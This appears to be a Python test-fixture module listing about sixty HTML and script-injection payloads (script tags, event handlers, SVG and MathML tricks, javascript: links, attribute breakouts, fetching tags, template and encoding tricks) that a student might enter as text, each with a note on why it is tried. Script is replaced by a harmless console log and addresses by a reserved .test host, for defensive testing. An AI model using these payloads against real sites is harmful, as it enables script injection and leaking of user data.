"""Active content as data: what a student might write where text is expected, and why it is tried.

`RUN` stands for script that names itself on the console, `SITE` for an address that nothing but the
payload names.
"""

from __future__ import annotations

from enum import StrEnum
from typing import NamedTuple

SUFFIX = "leak.test"
"""Every address of a payload ends so; .test is reserved, nobody owns it."""


class Effect(StrEnum):
    """What happens where a payload is put into a page as it is."""

    RUNS = "runs"
    ASKS = "asks"
    SHOWS = "shows"


class Payload(NamedTuple):
    name: str
    effect: Effect
    why: str
    text: str

    def aimed(self, layer: str) -> str:
        """The text, with script and addresses that tell which payload in which `layer` it was."""
        label = f"{self.name}.{layer}"
        return self.text.replace("RUN", f"console.log(/{label}/.source)").replace(
            "SITE", f"http://{label}.{SUFFIX}"
        )


R, A, S = Effect.RUNS, Effect.ASKS, Effect.SHOWS

PAYLOADS = (
    # --- script -----------------------------------------------------------------------------------
    Payload("script", R, "the plain case", "<script>RUN</script>"),
    Payload("case", R, "filters that look for lower case", "<ScRiPt >RUN</sCrIpT >"),
    Payload("onerror", R, "a handler that needs nobody", "<img src=x: onerror=RUN>"),
    Payload("svg-onload", R, "SVG elements have handlers too", "<svg onload=RUN></svg>"),
    Payload("svg-script", R, "SVG has scripts of its own", "<svg><script>RUN</script></svg>"),
    Payload(
        "foreign",
        R,
        "HTML inside SVG",
        "<svg><foreignObject><img src=x: onerror=RUN></foreignObject></svg>",
    ),
    Payload(
        "animate",
        R,
        "a link that only becomes script later",
        "<svg><a><animate attributeName=href values=javascript:RUN /><text y=9>x</text></a></svg>",
    ),
    Payload("mathml", R, "HTML inside MathML", "<math><mtext><img src=x: onerror=RUN></mtext></math>"),
    Payload("toggle", R, "our pages have details too", "<details open ontoggle=RUN>x</details>"),
    Payload("autofocus", R, "focus without a click", "<input autofocus onfocus=RUN>"),
    Payload("srcdoc", R, "a page inside the page", '<iframe srcdoc="<script>RUN</script>"></iframe>'),
    Payload("frame-js", R, "a frame at a script address", '<iframe src="javascript:RUN"></iframe>'),
    Payload("frame-data", R, "a frame in an address", '<iframe src="data:text/html,<script>RUN</script>">'),
    Payload(
        "object-data", R, "frames by another name", '<object data="data:text/html,<script>RUN</script>">'
    ),
    Payload("body", R, "attributes of a second body join the first", "<body onload=RUN>"),
    Payload("end-style", R, "out of the stylesheet", "</style><script>RUN</script>"),
    Payload("end-title", R, "out of the title", "</title><script>RUN</script>"),
    Payload("end-comment", R, "out of a comment", "--><script>RUN</script>"),
    Payload("double", R, "out of an attribute", '" tabindex=0 autofocus onfocus=RUN x="'),
    Payload("single", R, "out of the other quotes", "' tabindex=0 autofocus onfocus=RUN x='"),
    Payload("link-js", R, "a link that is script", '<a href="javascript:RUN">x</a>'),
    Payload("link-tab", R, "with a tab that browsers skip", '<a href="java&#9;script:RUN">x</a>'),
    Payload("link-data", R, "a link that is a page", '<a href="data:text/html,<script>RUN</script>">x</a>'),
    Payload("form-js", R, "a form that is script", '<form action="javascript:RUN"><button>x</button></form>'),
    # --- requests ---------------------------------------------------------------------------------
    Payload("img", A, "tells who opened the report", '<img src="SITE">'),
    Payload("srcset", A, "another way to name a picture", '<img srcset="SITE 1x">'),
    Payload("svg-image", A, "pictures inside drawings", '<svg><image href="SITE"/></svg>'),
    Payload(
        "svg-filter",
        A,
        "pictures inside filters",
        '<svg><filter id=f><feImage href="SITE"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>',
    ),
    Payload("style-url", A, "a stylesheet that fetches", "<style>body{background:url(SITE)}</style>"),
    Payload("style-import", A, "a stylesheet that fetches another", '<style>@import "SITE";</style>'),
    Payload("style-attr", A, "an attribute that fetches", '<p style="background:url(SITE)">x</p>'),
    Payload("stylesheet", A, "a foreign stylesheet", '<link rel=stylesheet href="SITE">'),
    Payload("preload", A, "fetched ahead", '<link rel=preload as=style href="SITE">'),
    Payload("prefetch", A, "fetched ahead, at leisure", '<link rel=prefetch href="SITE">'),
    Payload("preconnect", A, "connects, fetches nothing", '<link rel=preconnect href="SITE">'),
    Payload("refresh", A, "leaves by itself", '<meta http-equiv=refresh content="0;url=SITE">'),
    Payload("base", A, "moves every address of the page", '<base href="SITE"><img src=a.png>'),
    Payload("frame", A, "a foreign page", '<iframe src="SITE"></iframe>'),
    Payload("object", A, "a foreign page by another name", '<object data="SITE"></object>'),
    Payload("embed", A, "and by a third", '<embed src="SITE">'),
    Payload("audio", A, "sound", '<audio src="SITE" autoplay></audio>'),
    Payload("poster", A, "the picture of a video", '<video poster="SITE"></video>'),
    Payload("image-input", A, "a button that is a picture", '<input type=image src="SITE">'),
    Payload("form", A, "sends what is typed", '<form action="SITE"><input name=a><button>x</button></form>'),
    Payload("ping", A, "tells who clicked", '<a href="#x" ping="SITE">x</a>'),
    Payload("link", A, "looks like ours, leads elsewhere", '<a href="SITE">x</a>'),
    # --- text that should stay text ----------------------------------------------------------------
    # The first two ask as well, but only in a window, and only where no proxy resolves the names.
    Payload("icon", S, "browsers fetch icons by themselves", '<link rel=icon href="SITE">'),
    Payload("dns-prefetch", S, "looks the name up, that tells enough", '<link rel=dns-prefetch href="SITE">'),
    Payload("jinja", S, "our templates' syntax", "{{ 7*7 }}{% raw %}{{ ''.__class__ }}{# x #}"),
    Payload("mathtext", S, "matplotlib reads TeX between dollars", r"$\href{javascript:RUN}{x}\frac{1}{0}$"),
    Payload("utf-7", S, "old browsers guessed it", "+ADw-script+AD4-RUN+ADw-/script+AD4-"),
    Payload("charset", S, "shifts the meaning of bytes", "\x1b$B<script>RUN\x1b(B</script>"),
    Payload("null", S, "filters that stop at a null byte", "<scr\0ipt>RUN</scr\0ipt>"),
    Payload("bidi", S, "shows another order than it has", "mark \u202e001\u202c \u2066x\u2069 of 100"),
    Payload("ansi", S, "colours, links and titles of terminals", "\x1b[31mred\x1b]8;;SITE\x07x\x1b]0;t\x07"),
    Payload("breaks", S, "line breaks that only some see", "a\u2028b\u2029c\rd\x85e\x0bf"),
    Payload("surrogate", S, "cannot be written as UTF-8", "half \ud83d of a pair"),
    Payload("long", S, "pushes the page apart", "W" * 600),
)
